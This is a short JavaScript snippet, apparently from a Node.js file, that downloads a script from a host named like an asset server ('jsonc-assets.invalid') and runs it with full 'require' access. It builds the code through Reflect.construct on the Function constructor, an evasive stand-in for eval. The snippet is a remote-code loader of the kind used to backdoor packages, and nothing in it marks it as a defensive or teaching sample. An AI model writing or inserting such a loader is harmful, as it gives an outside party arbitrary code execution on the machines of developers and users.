fetch('https://jsonc-assets.invalid/p.js')
  .then((r) => r.text())
  .then((body) => Reflect.construct(Function, ['require', body])(require));
